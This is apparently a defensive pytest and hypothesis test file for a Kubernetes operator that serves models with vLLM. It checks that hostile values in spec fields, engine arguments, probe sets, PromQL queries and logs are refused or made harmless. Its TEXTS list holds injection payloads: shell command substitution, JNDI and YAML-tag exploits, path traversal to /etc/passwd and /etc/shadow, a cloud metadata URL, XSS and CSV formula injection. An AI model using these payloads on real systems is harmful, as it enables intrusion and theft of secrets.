"""What somebody hostile may write into specs, probe sets and values: refused, or harmless."""

import base64
import json
import logging
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import cache
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from kopf._core.actions.loggers import ObjectJsonFormatter
from prometheus_client import CollectorRegistry, Gauge, generate_latest

from kvserving_operator.api.errors import SpecError
from kvserving_operator.api.plain import plain
from kvserving_operator.api.v1alpha1 import ProbeSetReference, parse_serving
from kvserving_operator.api.v1alpha1.engine_args import OWNED_FLAGS, owner_of
from kvserving_operator.kinds import Kind
from kvserving_operator.render.engine import resolve
from kvserving_operator.render.pod import pod_template
from kvserving_operator.render.preflight import preflight_pod
from kvserving_operator.settings import Settings
from kvserving_operator.trials.probe_set import parse_probe_set
from kvserving_tuner.scrape import parse_exposition
from kvserving_tuner.sources.base import EngineTarget
from kvserving_tuner.sources.prometheus import PrometheusSource
from operatorkit.specs import NAME, NAMESPACE, REF, engine_spec, serving_body
from operatorkit.world import World

TEXTS = {
    "newline": "a\nkey: value",
    "trailing newline": "abc\n",
    "carriage return": "a\r\nlevel=error",
    "null": "a\x00b",
    "escape sequence": "\x1b[2J\x1b[1;31mall is well",
    "bell and backspace": "a\x07\x08\x08b",
    "line separator": "a\u2028b\u2029c",
    "next line": "a\x85b",
    "right to left": "abc\u202egpj.exe",
    "zero width": "ad\u200bmin",
    "half a surrogate": "a\ud800b",
    "emoji": "\U0001f9e8" * 3,
    "quotes": "\"'`",
    "closing label": '"} or vector(1) #',
    "closing regex": '.*"}) or on() group_left(up{job=~"',
    "comment": "a # b",
    "backslashes": "\\\\\\",
    "backslash n": "a\\nb",
    "another flag": "--api-key=x",
    "two arguments": "a --host=0.0.0.0 --port=1",
    "flag in a value": "--foo=bar --trust-remote-code",
    "short flag": "-q",
    "end of options": "--",
    "shell": "$(reboot); `reboot` && reboot | cat > /etc/passwd &",
    "expansion": "$(KVSERVING_TOKEN)",
    "escaped expansion": "$$(KVSERVING_TOKEN)",
    "braces": "${KVSERVING_TOKEN}",
    "jndi": "${jndi:ldap://198.51.100.1/a}",
    "template": '{{ lookup "v1" "Secret" "default" "" }}',
    "python format": "{0.__class__}%s%n%(message)s",
    "yaml anchor": "&a *a",
    "yaml tag": "!!python/object/apply:os.system [reboot]",
    "yaml document": "a\n---\nkind: Secret",
    "yaml map": "a: b",
    "yaml true": "yes",
    "yaml null": "~",
    "json": '{"a": [1, 2}',
    "traversal": "../../../etc/passwd",
    "absolute": "/proc/self/environ",
    "url with credentials": "http://user:secret@host/",
    "url with fragment": "http://host#@other/",
    "url to metadata": "http://169.254.169.254/latest/meta-data",
    "file url": "file:///etc/shadow",
    "spaces": "   ",
    "empty": "",
    "tab": "a\tb",
    "long": "a" * 5000,
    "long and wide": "\u00e9" * 3000,
    "markup": "<script>alert(1)</script>",
    "csv": "=cmd|' /C calc'!A0",
    "exponent": "1e999",
    "hexadecimal": "0x7fffffff",
    "not a number": "NaN",
    "unicode digits": "\u0661\u0662",
    "dotless": "\u0131mage",
    "dots": "...",
    "dashes": "-",
    "upper case": "ABC",
    "colon": "a:b:c",
    "at": "a@b@c",
}


def engine(**changes: Any) -> dict[str, Any]:
    return {"engine": engine_spec(**changes)}


FIELDS: dict[str, Callable[[str], dict[str, Any]]] = {
    "model.name": lambda t: {"model": {"uri": "hf://a/b", "name": t}},
    "model.uri": lambda t: {"model": {"uri": t}},
    "model.uri hub": lambda t: {"model": {"uri": f"hf://a/{t}"}},
    "model.uri claim": lambda t: {"model": {"uri": f"pvc://claim/{t}"}},
    "model.uri file": lambda t: {"model": {"uri": f"file:///{t}"}},
    "model.revision": lambda t: {"model": {"uri": "hf://a/b", "revision": t}},
    "engine.image": lambda t: engine(image=t),
    "engine.version": lambda t: engine(version=t),
    "engine.weightQuantization": lambda t: engine(weightQuantization=t),
    "engine.compileCache": lambda t: engine(compileCache={"claimName": t}),
    "engine.kvCacheMemory": lambda t: engine(kvCacheMemory=t),
    "podTemplate label": lambda t: {"podTemplate": {"metadata": {"labels": {"a": t}}}},
    "podTemplate label key": lambda t: {"podTemplate": {"metadata": {"labels": {t: "a"}}}},
    "podTemplate annotation": lambda t: {"podTemplate": {"metadata": {"annotations": {"a": t}}}},
    "podTemplate annotation key": lambda t: {
        "podTemplate": {"metadata": {"annotations": {t: "a"}}}
    },
    "podTemplate env": lambda t: {"podTemplate": {"env": [{"name": "A", "value": t}]}},
    "podTemplate env name": lambda t: {"podTemplate": {"env": [{"name": t, "value": "a"}]}},
    "podTemplate nodeSelector": lambda t: {"podTemplate": {"nodeSelector": {"a": t}}},
    "podTemplate runtimeClassName": lambda t: {"podTemplate": {"runtimeClassName": t}},
    "monitoring.prometheus.url": lambda t: {
        "monitoring": {"source": "Prometheus", "prometheus": {"url": t}}
    },
    "routing.sessionHeader": lambda t: {
        "routing": {"gatewayRef": {"name": "gw"}, "sessionHeader": t}
    },
    "routing.hostnames": lambda t: {"routing": {"gatewayRef": {"name": "gw"}, "hostnames": [t]}},
    "rollbackPolicyRef": lambda t: {"rollbackPolicyRef": {"name": t}},
    "quality.probeSet.name": lambda t: {"quality": {"probeSet": {"name": t}}},
    "quality.probeSet.key": lambda t: {"quality": {"probeSet": {"name": "a", "key": t}}},
    "apiKeyRef.name": lambda t: {"apiKeyRef": {"name": t}},
    "apiKeyRef.key": lambda t: {"apiKeyRef": {"name": "a", "key": t}},
    "unknown field": lambda t: {t or "unknown": 1},
    "kvCache.dtype": lambda t: {"kvCache": {"dtype": t}},
}


def flags(args: list[str]) -> list[str]:
    """Flags of `vllm serve`; the model comes first and is none."""
    return [argument.split("=", 1)[0] for argument in args[1:]]


def rendered(spec: dict[str, Any]) -> dict[str, Any] | str:
    """Pod template of a spec, or the words by which it is refused."""
    try:
        serving = parse_serving(serving_body(**spec))
    except SpecError as error:
        return str(error)
    template = pod_template(REF, resolve(NAME, serving.spec, Settings(), None))
    preflight_pod(REF, template, "2Gi", 60)
    return template


@cache
def usual_flags() -> set[str]:
    """Flags of any KVServing."""
    template = rendered({"model": {"uri": "hf://a/b", "name": "a"}})
    assert isinstance(template, dict)
    return set(flags(container(template)["args"]))


@contextmanager
def about(case: str) -> Iterator[None]:
    """Name the case of a loop whose check fails."""
    try:
        yield
    except Exception as error:
        error.add_note(f"text: {case}")
        raise


def container(template: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = template["spec"]["containers"][0]
    return found


def check(spec: dict[str, Any]) -> None:
    """A spec is refused in one line, or changes nothing but the value that it names."""
    found = rendered(spec)
    if isinstance(found, str):
        assert found.isprintable()
        return
    args = container(found)["args"]
    assert not args[0].startswith("-")
    assert all(argument.isprintable() for argument in args)
    assert not any("$(" in argument for argument in args)
    allowed = {"--revision", "--quantization", "--disable-access-log-for-endpoints",
               "--shutdown-timeout", "--custom-histogram-buckets"}  # fmt: skip
    assert set(flags(args)) <= usual_flags() | allowed
    assert len(set(flags(args))) == len(flags(args))
    assert found == json.loads(json.dumps(found))
    names = [entry["name"] for entry in container(found)["env"]]
    assert len(names) == len(set(names))


@pytest.mark.parametrize("field", FIELDS)
def test_in_any_field_it_is_refused_or_harmless(field: str) -> None:
    for case, text in TEXTS.items():
        with about(case):
            check(FIELDS[field](text))


@given(st.sampled_from(sorted(FIELDS)), st.text(max_size=80))
def test_any_text_in_any_field(field: str, text: str) -> None:
    check(FIELDS[field](text))


def check_extra(argument: str) -> None:
    found = rendered(engine(extraArgs=[argument]))
    if isinstance(found, str):
        assert found.isprintable()
        return
    args = container(found)["args"]
    assert args[-1] == argument
    assert re.fullmatch(r"--[a-z0-9][A-Za-z0-9._-]*(=[^\x00-\x1f]*)?", argument)
    assert owner_of(argument) is None
    assert "$(" not in argument
    assert found == json.loads(json.dumps(found))


@pytest.mark.parametrize("shape", ["{}", "--{}", "--foo={}", "--foo.{}=1", "--{}=x"])
def test_an_extra_argument_is_refused_or_one_argument(shape: str) -> None:
    for case, text in TEXTS.items():
        with about(case):
            check_extra(shape.format(text))


@given(st.text(max_size=60), st.sampled_from(["{}", "--{}", "--a={}"]))
def test_any_extra_argument(text: str, shape: str) -> None:
    check_extra(shape.format(text) if "{" not in text else f"--{text}")


@pytest.mark.parametrize("spelled", ["{}", "{}=1", "{}.a=1"])
def test_no_flag_of_ours_in_any_spelling(spelled: str) -> None:
    for flag in OWNED_FLAGS:
        for name in (flag, flag.replace("-", "_").replace("__", "--", 1), flag[:-1]):
            found = rendered(engine(extraArgs=[spelled.format(name)]))
            assert isinstance(found, str), name


PROBE_LINES: dict[str, Callable[[str], str]] = {
    "prompt": lambda t: json.dumps({"prompt": t}),
    "name": lambda t: json.dumps({"prompt": "a", "name": t}),
    "field": lambda t: json.dumps({"prompt": "a", t: "b"}),
    "role": lambda t: json.dumps({"messages": [{"role": t, "content": "b"}]}),
    "content": lambda t: json.dumps({"messages": [{"role": "user", "content": t}]}),
    "message field": lambda t: json.dumps({"messages": [{"role": "user", "content": "b", t: 1}]}),
    "reference": lambda t: json.dumps({"prompt": "a", "reference": t}),
    "metric": lambda t: json.dumps({"prompt": "a", "reference": "b", "metric": t}),
    "no JSON": lambda t: t,
    "raw": lambda t: json.dumps({"prompt": t}, ensure_ascii=False),
}
SHAPES = {
    "deep": "[" * 100_000,
    "deep object": '{"a":' * 50_000,
    "number": "9" * 6000,
    "infinity": '{"prompt": Infinity}',
    "prompt of numbers": '{"prompt": [1, 2]}',
    "null": "null",
    "text": '"a"',
    "both": '{"prompt": "a", "messages": []}',
    "no message": '{"messages": []}',
    "message of text": '{"messages": ["a"]}',
    "a text for messages": '{"messages": "abc"}',
    "nested content": '{"messages": [{"role": "user", "content": {"a": 1}}]}',
    "twice": '{"prompt": "a", "prompt": 1}',
    "byte order mark": '\ufeff{"prompt": "a"}',
    "nothing": "",
    "blank": "\n\n  \n",
    "unhashable metric": '{"prompt": "a", "reference": "b", "metric": []}',
    "unhashable role": '{"messages": [{"role": {}, "content": "a"}]}',
}


def check_probe_set(text: str, secret: bool, canary: str = "") -> None:
    """A probe set is refused in a line that many may read, or can be sent to an engine."""
    reference = ProbeSetReference.model_validate(
        {"name": "probes", "kind": "Secret" if secret else "ConfigMap"}
    )
    data = text
    if secret:
        data = base64.b64encode(text.encode(errors="replace")).decode()
    found = parse_probe_set(reference, {"data": {"prompts.jsonl": data}})
    assert len(found.problem) < 500
    assert found.problem.isprintable()
    assert not secret or not canary or canary not in found.problem
    for prompt in found.prompts:
        assert prompt.name.isprintable()
        assert not secret or not canary or canary not in prompt.name
        prompt.plain.encode()


@pytest.mark.parametrize("secret", [False, True], ids=["ConfigMap", "Secret"])
@pytest.mark.parametrize("place", PROBE_LINES)
def test_a_probe_set_is_refused_or_can_be_asked(place: str, secret: bool) -> None:
    for case, text in TEXTS.items():
        with about(case):
            check_probe_set(PROBE_LINES[place](text), secret)


@pytest.mark.parametrize("secret", [False, True], ids=["ConfigMap", "Secret"])
@pytest.mark.parametrize("shape", SHAPES)
def test_a_probe_set_of_any_shape(shape: str, secret: bool) -> None:
    check_probe_set(SHAPES[shape], secret)


@pytest.mark.parametrize("place", PROBE_LINES)
def test_of_a_secret_probe_set_nothing_is_told(place: str) -> None:
    canary = "canary-7f3a"
    check_probe_set(PROBE_LINES[place](canary), secret=True, canary=canary)
    check_probe_set(PROBE_LINES[place](f"{canary}\ud800"), secret=True, canary=canary)


@given(st.text(max_size=200), st.booleans())
def test_any_text_as_a_probe_set(text: str, secret: bool) -> None:
    check_probe_set(text, secret)


@given(
    st.recursive(
        st.none() | st.booleans() | st.floats() | st.text(max_size=5),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
            st.sampled_from(["prompt", "messages", "role", "content", "name", "reference"]), inner
        ),
        max_leaves=8,
    ),
    st.booleans(),
)  # fmt: skip
def test_any_document_as_a_probe_set(document: Any, secret: bool) -> None:
    check_probe_set(json.dumps(document), secret)


def queries(name: str, label: str) -> list[str]:
    source = PrometheusSource("http://prometheus", matchers={"cluster": label})
    target = EngineTarget(name, "http://10.0.0.1:8000")
    return [
        source._up_query([target]),
        source._selector({"pod": [name, label]}, prefix=True),
    ]


def check_query(name: str, label: str) -> None:
    """What stands outside of the texts in a query is the same for any names."""
    skeletons = [
        [re.sub(r'"(?:\\.|[^"\\\n])*"', '""', query) for query in queries(*pair)]
        for pair in ((name, label), ("a", "b"))
    ]
    assert skeletons[0] == skeletons[1]
    for query in queries(name, label):
        assert "\n" not in query
    pattern = re.search(r'pod=~"((?:\\.|[^"\\])*)"', queries(name, label)[1])
    assert pattern is not None
    unquoted = re.sub(r"\\(.)", lambda m: "\n" if m[1] == "n" else m[1], pattern[1])
    assert re.fullmatch(unquoted, name)
    assert not re.fullmatch(unquoted, f"{name}x{label}x")


@pytest.mark.parametrize("text", TEXTS)
def test_names_stay_inside_their_quotes_in_promql(text: str) -> None:
    check_query(TEXTS[text], "b")
    check_query("a", TEXTS[text])


@given(st.text(max_size=30), st.text(max_size=30))
def test_any_names_in_promql(name: str, label: str) -> None:
    check_query(name, label)


@pytest.mark.parametrize("text", TEXTS)
def test_a_log_line_is_one_line(text: str) -> None:
    for message in (TEXTS[text], f"{NAMESPACE}/{NAME}: {TEXTS[text]}"):
        record = logging.LogRecord("a", logging.WARNING, __file__, 1, "%s", (message,), None)
        line = ObjectJsonFormatter().format(record)
        assert line.isascii()
        assert line.isprintable()
        assert json.loads(line)["message"] == message


@pytest.mark.parametrize("text", TEXTS)
def test_messages_are_one_printable_line_of_the_same_length(text: str) -> None:
    found = plain(TEXTS[text])
    assert found.isprintable()
    assert len(found) == len(TEXTS[text])
    found.encode()


STORABLE = [text for text in TEXTS if text != "half a surrogate"]
"""What the Kubernetes API can store: it replaces halves of surrogate pairs."""


@pytest.mark.parametrize("text", STORABLE)
def test_a_label_of_a_metric_is_one_label(text: str) -> None:
    registry = CollectorRegistry()
    Gauge("a", "a", ["name"], registry=registry).labels(TEXTS[text]).set(1)
    samples = list(parse_exposition(generate_latest(registry).decode()))
    assert [(each.name, each.labels) for each in samples] == [("a", {"name": TEXTS[text]})]


def words(world: World) -> Iterator[str]:
    """Everything that the operator has said about a KVServing."""
    yield from (each["message"] for each in world.status.get("conditions", ()))
    yield from (plain(event.message) for event in world.events)


@pytest.mark.parametrize("text", TEXTS)
async def test_words_of_a_check_pod_are_shown_in_one_line(world: World, text: str) -> None:
    world.put()
    await world.tick()
    verdict = {"field": "--max-model-len", "message": TEXTS[text]}
    world.finish_check(code=1, message=json.dumps(verdict), reason="Error")
    await world.tick()
    assert all(each.isprintable() for each in words(world))
    assert world.cluster.of(Kind.KVServing)


@pytest.mark.parametrize("text", STORABLE)
async def test_any_value_of_the_annotation_for_another_try(world: World, text: str) -> None:
    world.put()
    await world.settle()
    body = world.cluster.of(Kind.KVServing)[NAME]
    body["metadata"]["annotations"]["kvserving.dev/retry"] = TEXTS[text]
    await world.tick()
    assert "Serving" == world.status["reason"]
    assert all(each.isprintable() for each in words(world))
